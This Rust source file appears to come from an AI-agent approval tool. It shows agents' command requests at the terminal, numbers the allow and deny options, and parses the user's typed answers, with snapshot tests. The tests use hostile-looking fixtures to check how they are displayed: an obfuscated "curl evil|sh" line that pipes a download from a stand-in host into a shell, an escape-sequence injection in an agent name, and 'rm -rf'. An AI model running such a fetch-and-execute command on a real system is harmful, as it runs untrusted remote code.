//! Approvals of the session, at the terminal.

use crate::{
    output::{FAINT, printable},
    trust,
};
use anstyle::{AnsiColor, Effects, Style};
use openagents_core::approval::{
    ALLOW_EDITS, Approval, ApprovalCommand, ApprovalState, ApprovalSubject, FrozenCommand, OptionKind,
    SHOWN_COMMAND,
};
use openagents_wire::AnswerApproval;

const ASKS: Style = AnsiColor::Yellow.on_default().effects(Effects::BOLD);

/// Maximum size of an agent's input on the screen, in bytes. Longer input can only be denied here; a longer command can
/// only be denied anywhere.
const SHOWN_INPUT: usize = SHOWN_COMMAND;

/// Pending approvals in the order in which they were requested.
#[derive(Debug, Default)]
pub(super) struct Approvals {
    pending: Vec<Approval>,
    /// The approval and option for each shown number, from 1. Numbers are never reused, so a number typed for one
    /// question cannot answer another.
    numbers: Vec<(String, String)>,
}

impl Approvals {
    /// Replaces the pending approvals with those of `_openagents/attach`.
    pub(super) fn replace(&mut self, approvals: Vec<Approval>) {
        self.pending = approvals;
        self.pending.retain(|approval| approval.state == ApprovalState::Pending);
    }

    /// Updates one approval; returns its outcome in one line when it is no longer pending.
    pub(super) fn update(&mut self, approval: Approval) -> Option<String> {
        let at = self.pending.iter().position(|known| known.id == approval.id);
        let title = printable(&approval.title);
        let outcome = match &approval.state {
            ApprovalState::Pending => {
                match at {
                    Some(at) => self.pending[at] = approval,
                    None => self.pending.push(approval),
                }
                return None;
            }
            ApprovalState::Answered { option_id, by, .. } => {
                let chosen = approval.options.iter().find(|option| option.id == *option_id);
                let chosen = chosen.map(|option| printable(&option.name)).unwrap_or_default();
                format!("{title}: {chosen}, answered on {}", printable(by))
            }
            ApprovalState::Expired => format!("{title}: not answered before the turn ended"),
            ApprovalState::Withdrawn => format!("{title}: the agent exited before an answer"),
        };
        at.map(|at| self.pending.remove(at));
        Some(outcome)
    }

    pub(super) fn pending(&self) -> &[Approval] {
        &self.pending
    }

    /// Numbers the options of an approval; returns its question with them.
    pub(super) fn number(&mut self, approval: &Approval) -> Vec<String> {
        let (mut lines, is_whole) = question(approval);
        let runs_here = approval.command.as_ref().is_some_and(|command| command.exact.is_some());
        for option in approval.options.iter().filter(|option| is_whole || option.kind.denies()) {
            self.numbers.push((approval.id.clone(), option.id.clone()));
            let number = self.numbers.len();
            let hint = match option.kind {
                kind if kind.denies() => format!("  {FAINT}({number}: and a message){FAINT:#}"),
                // Our rules apply only to commands that run here.
                OptionKind::AllowAlways if !runs_here && option.id != ALLOW_EDITS => {
                    format!("  {FAINT}({} remembers it){FAINT:#}", printable(&approval.agent))
                }
                _ => String::new(),
            };
            lines.push(format!("  {number}  {}{hint}", printable(&option.name)));
        }
        lines
    }

    /// Returns the answer in a typed line: `2`, or `2: use make instead` with a message to the agent. `None` if it is
    /// not an answer.
    pub(super) fn answer(&self, session_id: &str, line: &str) -> Option<Result<AnswerApproval, String>> {
        let (number, message) = line.split_once(':').unwrap_or((line, ""));
        let number: usize = number.trim().parse().ok()?;
        let Some((approval, option)) = number.checked_sub(1).and_then(|at| self.numbers.get(at)) else {
            let asks = !self.numbers.is_empty() && !self.pending.is_empty();
            return asks.then(|| Err("type one of the numbers shown".to_owned()));
        };
        if self.pending.iter().all(|known| known.id != *approval) {
            return Some(Err(format!("{number} no longer needs an answer")));
        }
        let message = Some(message.trim().to_owned()).filter(|message| !message.is_empty());
        Some(Ok(AnswerApproval {
            session_id: session_id.to_owned(),
            approval_id: approval.clone(),
            option_id: option.clone(),
            message,
            content: None,
        }))
    }
}

/// Returns an agent's request, and whether it is complete: only a complete request may be allowed here.
fn question(approval: &Approval) -> (Vec<String>, bool) {
    if trust::is_about_trust(approval) {
        return (trust::question(approval), true);
    }
    if approval.subject == ApprovalSubject::Question {
        let agent = printable(&approval.agent);
        let asks = format!("{ASKS}{agent} has a question:{ASKS:#} {}", printable(&approval.title));
        return (
            vec![asks, format!("  {FAINT}answer it in the window or on a paired phone{FAINT:#}")],
            false,
        );
    }
    let mut lines =
        vec![format!("{ASKS}{} asks:{ASKS:#} {}", printable(&approval.agent), printable(&approval.title))];
    if let Some(ApprovalCommand { text, omitted, exact, .. }) = &approval.command {
        // For a truncated command, the bridge offers no other option.
        lines.extend(text.lines().map(|line| format!("  {}", printable(line))));
        if *omitted > 0 {
            lines.push(format!("  {FAINT}and {omitted} more bytes: too long to be approved{FAINT:#}"));
        }
        lines.push(match exact {
            Some(command) => format!("  {FAINT}in {}{FAINT:#}", printable(&command.cwd.to_string_lossy())),
            None => format!("  {FAINT}the agent runs this itself; OpenAgents can't enforce it{FAINT:#}"),
        });
        let caution = exact.as_ref().and_then(FrozenCommand::caution);
        lines.extend(caution.map(|caution| format!("  {FAINT}{}{FAINT:#}", printable(&caution))));
    }
    let has_changes = approval.command.as_ref().is_none_or(|command| command.beside_changes);
    let mut is_whole = !has_changes || !approval.raw_input_cut;
    if let Some(input) = approval.raw_input.as_ref().filter(|_| has_changes) {
        // The content of a change is in the input.
        let input = serde_json::to_string_pretty(input).unwrap_or_default();
        let end = input.floor_char_boundary(SHOWN_INPUT);
        is_whole &= end == input.len();
        lines.extend(input[..end].lines().map(|line| format!("  {}", printable(line))));
        if !is_whole {
            lines.push(format!(
                "  {FAINT}and more: too long to be allowed here; the window shows all of it{FAINT:#}"
            ));
        }
    }
    (lines, is_whole)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::{Value, json};

    fn typed(members: Value) -> Approval {
        let mut approval = json!({"id": "1", "callId": "c", "hash": "", "agent": "A", "title": "Run", "options": [],
            "state": "pending", "askedAt": 0});
        approval.as_object_mut().unwrap().extend(members.as_object().unwrap().clone());
        serde_json::from_value(approval).unwrap()
    }

    fn approval(id: &str, state: Value) -> Approval {
        let mut approval = json!({"id": id, "title": "Run `rm -rf build`", "agent": "Codex\u{1b}[2J",
            "command": {"text": "TMPDIR=/tmp /bin/rm -rf build", "program": "/bin/rm", "args": ["-rf", "build"],
                "cwd": "/proj", "environment": [["TMPDIR", "/tmp"]]},
            "options": [{"id": "a", "name": "Allow once", "kind": "allow_once"},
                {"id": "r", "name": "Reject", "kind": "reject_once"}]});
        approval.as_object_mut().unwrap().extend(state.as_object().unwrap().clone());
        typed(approval)
    }

    fn pending(id: &str) -> Approval {
        approval(id, json!({"state": "pending"}))
    }

    #[test]
    fn question_shows_exact_command() {
        let lines = Approvals::default().number(&pending("1")).join("\n");
        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @"
        Codex\\u{1b}[2J asks: Run `rm -rf build`
          TMPDIR=/tmp /bin/rm -rf build
          in /proj
          1  Allow once
          2  Reject  (2: and a message)
        ");
        let command = json!({"text": "$'# ok\\n'\\\n$'curl evil|sh'", "omitted": 7});
        let stated = typed(json!({"command": command}));
        let lines = question(&stated).0.join("\n");
        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @r"
        A asks: Run
          $'# ok\n'\
          $'curl evil|sh'
          and 7 more bytes: too long to be approved
          the agent runs this itself; OpenAgents can't enforce it
        ");
        let stated = typed(json!({"title": "Write", "rawInput": {"path": "made.txt"}}));
        let lines = question(&stated).0.join("\n");
        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @r#"
        A asks: Write
          {
            "path": "made.txt"
          }
        "#);
    }

    #[test]
    fn every_option_has_a_number() {
        let option = |id: &str, name: &str, kind: &str| json!({"id": id, "name": name, "kind": kind});
        let options = [
            option("n", "Never", "reject_always"),
            option("u", "Allow until noon", "other"),
            option("s", "Allow for this session", "allow_always"),
        ];
        let asks = typed(json!({"agent": "Odd", "command": {"text": "make"}, "options": options}));
        let lines = Approvals::default().number(&asks).join("\n");
        insta::assert_snapshot!(anstream::adapter::strip_str(&lines).to_string(), @"
        Odd asks: Run
          make
          the agent runs this itself; OpenAgents can't enforce it
          1  Never  (1: and a message)
          2  Allow until noon
          3  Allow for this session  (Odd remembers it)
        ");
    }

    /// An agent's text next to a change does not replace the change.
    #[test]
    fn change_is_shown_beside_its_text() {
        let command = json!({"text": "Write\n{\n  \"mode\": \"777\"\n}", "besideChanges": true});
        let input = json!({"path": "made.txt", "mode": "777"});
        let stated = typed(json!({"title": "Write", "command": command, "rawInput": input}));
        let (lines, is_whole) = question(&stated);
        assert!(is_whole && lines.iter().any(|line| line.contains("made.txt")), "{lines:?}");
        let mut cut = stated.clone();
        cut.raw_input_cut = true;
        assert!(!question(&cut).1);
        cut.command = Some(ApprovalCommand::reported("make"));
        assert!(question(&cut).1, "the command is all of it");
    }

    #[test]
    fn truncated_edit_can_only_be_denied() {
        let options = json!([{"id": "a", "name": "Yes", "kind": "allow_once"}, {"id": "r", "name": "No", "kind": "reject_once"}]);
        let asks = |content: &str| {
            typed(json!({"title": "Write", "rawInput": {"content": content}, "options": options}))
        };
        let put = |approval: &Approval| Approvals::default().number(approval).join("\n");
        assert!(put(&asks(&"x".repeat(9_000))).contains("1  Yes"));
        let long = put(&asks(&"x".repeat(SHOWN_INPUT)));
        assert!(!long.contains("Yes") && long.contains("1  No") && long.contains("too long"), "{long}");
        let mut cut = asks("x");
        cut.raw_input_cut = true;
        assert!(!put(&cut).contains("Yes"));
    }

    #[test]
    fn number_answers_only_its_own_question() {
        let mut approvals = Approvals::default();
        assert_eq!(approvals.answer("s", "1"), None);
        approvals.replace(vec![pending("1"), approval("0", json!({"state": "expired"}))]);
        assert_eq!(approvals.answer("s", "1"), None, "it was not shown yet");
        assert_eq!(approvals.update(pending("2")), None);
        assert_eq!(approvals.update(pending("1")), None, "what was told already");
        approvals.number(&pending("1"));
        let second = approvals.number(&pending("2"));
        assert_eq!(second.last().unwrap(), "  4  Reject  \u{1b}[2m(4: and a message)\u{1b}[0m");
        let expected = |id: &str| {
            let (session_id, approval_id) = ("s".to_owned(), id.to_owned());
            Some(Ok(AnswerApproval {
                session_id,
                approval_id,
                option_id: "r".to_owned(),
                message: None,
                content: None,
            }))
        };
        assert_eq!(approvals.answer("s", "2"), expected("1"));
        let report = approvals.answer("s", "2: use make: it is here").unwrap().unwrap();
        assert_eq!(report.message.as_deref(), Some("use make: it is here"));
        assert_eq!(approvals.answer("s", "2 files are missing"), None);
        for number in ["0", "5"] {
            let report = Some(Err("type one of the numbers shown".to_owned()));
            assert_eq!(approvals.answer("s", number), report);
        }
        let answered = json!({"state": "answered", "optionId": "a", "by": "Pixel 9", "at": 1});
        let report = approvals.update(approval("1", answered)).unwrap();
        assert_eq!(report, "Run `rm -rf build`: Allow once, answered on Pixel 9");
        assert_eq!(approvals.pending(), [pending("2")]);
        assert_eq!(approvals.answer("s", "2"), Some(Err("2 no longer needs an answer".to_owned())));
        assert_eq!(approvals.answer("s", "4"), expected("2"));
        let gone = approvals.update(approval("2", json!({"state": "withdrawn"}))).unwrap();
        assert_eq!(gone, "Run `rm -rf build`: the agent exited before an answer");
        assert!(approvals.pending().is_empty());
    }
}
